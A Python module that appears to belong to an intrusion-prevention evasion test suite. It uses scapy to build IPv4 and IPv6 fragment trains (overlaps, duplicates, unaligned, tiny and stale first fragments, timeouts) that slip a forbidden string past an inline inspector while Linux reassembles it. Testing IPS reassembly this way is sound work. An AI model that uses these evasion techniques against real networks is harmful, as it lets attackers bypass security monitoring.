"""The IP fragment cases of the evasion suite (attack.py runs them), over UDP and TCP,
IPv4 and IPv6, as net/ipv4/inet_fragment.c, ip_fragment.c and net/ipv6/reassembly.c
reassemble."""

import struct
import time

from scapy.all import IP, IPv6, IPv6ExtHdrFragment, UDP, Raw

from wire import CFG, FORBIDDEN, RNG, pick_port, settle, target
from tcp_cases import tcp_start

# ---------------------------------------------------------------------------------------
# Fragment cases, over UDP and TCP, IPv4 and IPv6.
# ---------------------------------------------------------------------------------------

IDS = [RNG.randrange(1, 1 << 16)]


def next_id():
    IDS[0] = (IDS[0] + 1) & 0xFFFF or 1
    return IDS[0]


class Datagram:
    """The transport bytes of one datagram (UDP datagram or TCP segment, checksummed) and
    how to cut them into IPv4 or IPv6 fragments."""

    def __init__(self, fam, dst, l4, proto):
        self.fam, self.dst, self.l4, self.proto = fam, dst, l4, proto
        self.src = CFG["src4"] if fam == 4 else CFG["src6"]
        self.id = next_id()

    def frag(self, off, data, more):
        if self.fam == 4:
            return IP(src=self.src, dst=self.dst, id=self.id, proto=self.proto,
                      flags=("MF" if more else 0), frag=off // 8) / Raw(data)
        return IPv6(src=self.src, dst=self.dst, nh=44) / IPv6ExtHdrFragment(
            nh=self.proto, offset=off // 8, m=int(more), id=self.id) / Raw(data)

    def piece(self, start, end, data=None):
        """The fragment holding transport bytes [start, end) (`data` replaces them)."""
        body = self.l4[start:end] if data is None else data
        return self.frag(start, body, end < len(self.l4))


def udp_datagram(fam, name, payload, port=None):
    dst = target(fam)
    sport = pick_port()
    l3 = IP(src=CFG["src4"], dst=dst) if fam == 4 else IPv6(src=CFG["src6"], dst=dst)
    pkt = l3 / UDP(sport=sport, dport=port or CFG["udp_port"]) / Raw(payload)
    raw = bytes(pkt)
    l4 = raw[20:] if fam == 4 else raw[40:]
    return Datagram(fam, dst, l4, 17), sport


def udp_payload(name):
    """48 bytes with the forbidden string across the second and third fragments' edge."""
    head = ("udp " + name).encode()[:18].ljust(18, b".")
    return head + FORBIDDEN + b"|" * 18


def tcp_datagram(w, fam, name):
    """A TCP connection with its honest prefix acknowledged, and the next segment, which
    carries the forbidden string, as a datagram to fragment."""
    c, prefix = tcp_start(w, fam, name)
    data = b"0123456789abcdefgh" + FORBIDDEN + b"." * 18
    seg = c.segment(c.snd_nxt, data)
    raw = bytes(seg)
    l4 = raw[20:] if fam == 4 else raw[40:]
    return c, prefix, Datagram(fam, c.dst, l4, 6), len(data)


def frag_case(w, fam, l4, name, run):
    """Runs `run(d, send, benign_l4)` over a UDP datagram or a TCP segment; the layout
    is cut at 8-byte multiples so that every piece holds part of the string region."""
    if l4 == "udp":
        d, sport = udp_datagram(fam, name, udp_payload(name))
        run(d, lambda p: (w.send(p), settle(0.02)))
        settle(0.2)
        return {"proto": "udp", "sport": sport, "prefix": ""}
    c, prefix, d, n = tcp_datagram(w, fam, name)
    run(d, lambda p: (w.send(p), settle(0.02)))
    c.wait_acked(c.snd_nxt + n, 0.5)
    return {"proto": "tcp", "sport": c.sport, "prefix": prefix.decode()}


def cuts(d):
    """Fragment boundaries: the first piece holds the whole transport header."""
    first = 16 if d.proto == 17 else 40
    out = [0, first]
    while out[-1] + 16 < len(d.l4):
        out.append(out[-1] + 16)
    out.append(len(d.l4))
    return out


def pieces(d):
    b = cuts(d)
    return [(b[i], b[i + 1]) for i in range(len(b) - 1)]


def forbidden_piece(d):
    """The index of the piece where the forbidden string starts."""
    at = d.l4.find(FORBIDDEN)
    for i, (a, e) in enumerate(pieces(d)):
        if a <= at < e:
            return i
    return 1


def f_resend_completing(d, send):
    """ip_frag_queue keeps the train the IPS let through; if the IPS drops only the
    fragment that completes the forbidden datagram and forgets it, sending that fragment
    again completes the datagram at the host."""
    ps = pieces(d)
    for a, e in ps:
        send(d.piece(a, e))
    for _ in range(2):
        settle(0.1)
        send(d.piece(*ps[-1]))


def f_short_dup_first(d, send):
    """A short copy of the first fragment (inside the first: IPFRAG_DUP, ignored by
    inet_frag_queue_insert; an IPv6 one without the whole upper header is refused), then
    the rest."""
    ps = pieces(d)
    send(d.piece(*ps[0]))
    send(d.frag(0, d.l4[:8], True))
    for a, e in ps[1:]:
        send(d.piece(a, e))


def f_short_dup_first_late(d, send):
    """The short copy of the first fragment after all but the last fragment: a
    reassembler that refuses it must not forget the train it holds."""
    ps = pieces(d)
    for a, e in ps[:-1]:
        send(d.piece(a, e))
    send(d.frag(0, d.l4[:8], True))
    send(d.piece(*ps[-1]))


def f_unaligned_more(d, send):
    """A fragment with More Fragments set whose length is not a multiple of 8. IPv4
    (ip_frag_queue) trims it to a multiple of 8, so the next fragment's bytes win where
    they meet; IPv6 (ip6_frag_queue) refuses it with a parameter problem. Here it carries
    4 benign bytes past its aligned end (IPv4), or is benign throughout (IPv6, followed
    by the real fragment)."""
    ps = pieces(d)
    k = forbidden_piece(d)
    for i, (a, e) in enumerate(ps):
        if i == k:
            if d.fam == 4:
                send(d.frag(a, d.l4[a:e] + b"####", True))
                continue
            send(d.frag(a, b"#" * (e - a + 4), True))
        send(d.piece(a, e))


def f_dup_evil_first(d, send):
    """The forbidden piece, then a copy with different bytes at the same place:
    inet_frag_queue_insert calls it a duplicate and keeps the first."""
    ps = pieces(d)
    k = forbidden_piece(d)
    for i, (a, e) in enumerate(ps):
        send(d.piece(a, e))
        if i == k:
            send(d.piece(a, e, b"#" * (e - a)))


def f_dup_benign_first(d, send):
    """A benign copy of the forbidden piece first, then the real one (a duplicate, which
    Linux ignores: the host reads the benign datagram)."""
    ps = pieces(d)
    k = forbidden_piece(d)
    for i, (a, e) in enumerate(ps):
        if i == k:
            send(d.piece(a, e, b"#" * (e - a)))
        send(d.piece(a, e))


def overlap_then_fresh(d, send, first_before):
    """Two benign fragments overlapping partially (IPFRAG_OVERLAP: the host discards the
    whole train, RFC 5722), then the real train with the same ID, which the host
    reassembles afresh. A reassembler that keeps the stale bytes inspects benign ones."""
    ps = pieces(d)
    a, e = ps[1]
    x = d.frag(a + 8, b"#" * 16, True)
    y = d.frag(a, b"%" * 16, True)
    for p in ([y, x] if first_before else [x, y]):
        send(p)
    settle(0.05)
    for a, e in ps:
        send(d.piece(a, e))


def f_overlap_later_first(d, send):
    overlap_then_fresh(d, send, False)


def f_overlap_earlier_first(d, send):
    overlap_then_fresh(d, send, True)


def f_false_last_then_fresh(d, send):
    """A benign fragment that claims to be the last one, ending before the real end, then
    the real last fragment: ip_frag_queue discards a train whose end changes
    (INET_FRAG_LAST_IN). Then the real train afresh, which the host reassembles."""
    ps = pieces(d)
    a, e = ps[-2]
    send(d.frag(a, b"#" * (e - a), False))
    send(d.piece(*ps[-1]))
    settle(0.05)
    for a, e in ps:
        send(d.piece(a, e))


def f_atomic(d, send):
    """The whole datagram in one fragment with offset 0 and no more fragments: an IPv6
    atomic fragment (RFC 6946), which Linux handles as an unfragmented packet; over IPv4,
    the plain datagram with Don't Fragment."""
    if d.fam == 6:
        send(d.frag(0, d.l4, False))
    else:
        send(IP(src=d.src, dst=d.dst, id=d.id, proto=d.proto, flags="DF") / Raw(d.l4))


def f_tiny_first_then_fresh(d, send):
    """A first fragment of 8 bytes naming another destination port, then the real train,
    then the real train again. IPv4 and IPv6/UDP: the real first fragment overlaps the
    tiny one, so the host discards that train and builds the datagram from the rest and
    the second train. IPv6/TCP: the tiny one lacks the whole TCP header and is refused
    (RFC 8200), the first train completes. A reassembler keeping the tiny one reads the
    wrong port."""
    hdr = bytearray(d.l4[:8])
    port = struct.unpack("!H", hdr[2:4])[0]
    hdr[2:4] = struct.pack("!H", port + 1)
    send(d.frag(0, bytes(hdr), True))
    for a, e in pieces(d):
        send(d.piece(a, e))
    settle(0.05)
    for a, e in pieces(d):
        send(d.piece(a, e))


def f_max_dist_shadow(d, send):
    """IPv4 only (ip_frag_too_far, net.ipv4.ipfrag_max_dist = 64): a benign first fragment,
    then 70 fragments of other datagrams from the same source, then the real train. The
    host restarts the train when the real first fragment comes (the held one is too far
    behind) and reassembles the forbidden datagram; a reassembler without that rule keeps
    the benign first bytes."""
    ps = pieces(d)
    a, e = ps[0]
    send(d.piece(a, e, d.l4[a:8] + b"#" * (e - 8)))
    for _ in range(70):
        junk = Datagram(d.fam, d.dst, d.l4, d.proto)
        send(junk.frag(16, b"j" * 16, True))
    for a, e in ps:
        send(d.piece(a, e))


def f_timeout_shadow(d, send):
    """A benign first fragment sent longer before the rest than the host keeps a train
    (ipfrag_time): the host has forgotten it when the real train comes; a reassembler that
    keeps trains longer holds its bytes, first wins, and inspects benign ones."""
    ps = pieces(d)
    a, e = ps[0]
    send(d.piece(a, e, d.l4[a:8] + b"#" * (e - 8)))
    time.sleep(CFG["frag_wait"])
    for a, e in ps:
        send(d.piece(a, e))


def f_honest_reverse(d, send):
    """Honest fragments in reverse order: the datagram must arrive whole."""
    for a, e in reversed(pieces(d)):
        send(d.piece(a, e))


FRAG = {
    "resend_completing": f_resend_completing,
    "short_dup_first": f_short_dup_first,
    "short_dup_first_late": f_short_dup_first_late,
    "unaligned_more": f_unaligned_more,
    "dup_evil_first": f_dup_evil_first,
    "dup_benign_first": f_dup_benign_first,
    "overlap_later_first": f_overlap_later_first,
    "overlap_earlier_first": f_overlap_earlier_first,
    "timeout_shadow": f_timeout_shadow,
    "false_last_then_fresh": f_false_last_then_fresh,
    "atomic": f_atomic,
    "max_dist_shadow": f_max_dist_shadow,
    "tiny_first_then_fresh": f_tiny_first_then_fresh,
}
